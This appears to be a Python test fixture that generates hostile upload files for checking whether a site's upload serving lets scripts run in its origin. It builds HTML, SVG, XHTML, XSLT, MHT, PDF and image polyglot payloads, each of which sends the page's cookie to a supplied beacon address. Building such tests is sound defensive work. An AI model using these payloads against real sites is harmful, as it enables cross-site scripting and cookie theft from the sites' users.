"""Uploads that want to run a script in the site's origin, each in its own way.

A script that runs says so to a beacon, with the cookie if it can read it. Every file says which one it is.
"""

from __future__ import annotations

import gzip
from collections.abc import Mapping

_SCRIPT = (
    'try{{document.title="ran"}}catch(e){{}}'
    'new Image().src="{beacon}/{name}?"+encodeURIComponent((function(){{try{{return document.cookie}}'
    'catch(e){{return"unreadable"}}}})());'
)
_HTML = "<!doctype html><title>upload</title><script>{script}</script><img src=x onerror='{script}'>"
_SVG = (
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload='{script}'><script><![CDATA[{script}]]></script>"
    '<rect width="9" height="9"/></svg>'
)
_XHTML = (
    '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>upload</title>'
    "<script><![CDATA[{script}]]></script></head><body/></html>"
)
_XSLT = (
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?>'
    '<!DOCTYPE x [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><x><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    '<xsl:template match="/"><html><script>{script}</script></html></xsl:template></xsl:stylesheet></x>'
)
_MHT = (
    'MIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n--b\r\n'
    "Content-Type: text/html\r\nContent-Location: http://127.0.0.1/x\r\n\r\n{html}\r\n--b--\r\n"
)
_PDF = (
    "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R"
    '/OpenAction<</S/JavaScript/JS(app.launchURL\\("{beacon}/{name}"\\))>>'
    ">>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n{html}"
)
# A GIF of one pixel that is a script as well: its header is the name of a variable, its size opens a comment.
_GIF_SCRIPT = b"GIF89a/*" + bytes(26) + b"*/=0;%s//\x00;"
# What follows the end of a picture is nothing to whoever shows pictures, and all to whoever shows pages.
_GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,"
    b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
_PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"

# Opened by their addresses in a server that knows no rules, these run: what the test must be able to see.
RUN_UNGUARDED = ("evil.html", "evil.svg", "evil.xhtml", "evil.xml", "polyglot.html", "x.png.html")
AS_SCRIPTS = ("evil.js", "evil.mjs", "script.gif", "script.png", "script.txt", "evil.json", "no-extension")


def uploads(beacon: str) -> Mapping[str, bytes]:
    """Return the files, by name; ``beacon`` is the address that they tell when they run."""

    def script(name: str) -> str:
        return _SCRIPT.format(beacon=beacon, name=name)

    def html(name: str) -> bytes:
        return _HTML.format(script=script(name)).encode()

    def text(form: str, name: str) -> bytes:
        return form.format(beacon=beacon, name=name, script=script(name), html=html(name).decode()).encode()

    documents = {
        **{
            name: html(name)
            for name in ("evil.html", "evil.htm", "x.html.png", "x.png.html", "evil.swf", "evil.txt")
        },
        **{
            name: html(name)
            for name in ("no-html", "evil.html.", "evil.shtml", "evil.hta", "evil.json", "evil.mp4")
        },
        **{name: text(_SVG, name) for name in ("evil.svg", "evil.SVG", "svg.png", "svg.html", "evil")},
        "evil.svgz": gzip.compress(text(_SVG, "evil.svgz")),
        **{
            name: text(_XHTML, name)
            for name in ("evil.xhtml", "evil.xml", "evil.rss", "evil.atom", "evil.xsl")
        },
        "transformed.xml": text(_XSLT, "transformed.xml"),
        **{name: text(_MHT, name) for name in ("evil.mht", "evil.mhtml", "mht.html")},
        "evil.pdf": text(_PDF, "evil.pdf"),
    }
    polyglots = {
        f"polyglot.{ending}": _GIF + html(f"polyglot.{ending}")
        for ending in ("gif", "png", "html", "svg", "webp", "ico", "avif")
    }
    scripts = {
        name: _GIF_SCRIPT % script(name).encode() if name.startswith("script.") else script(name).encode()
        for name in AS_SCRIPTS
        if name not in documents
    }
    return {**documents, **polyglots, "png.png": _PNG + html("png.png"), **scripts}
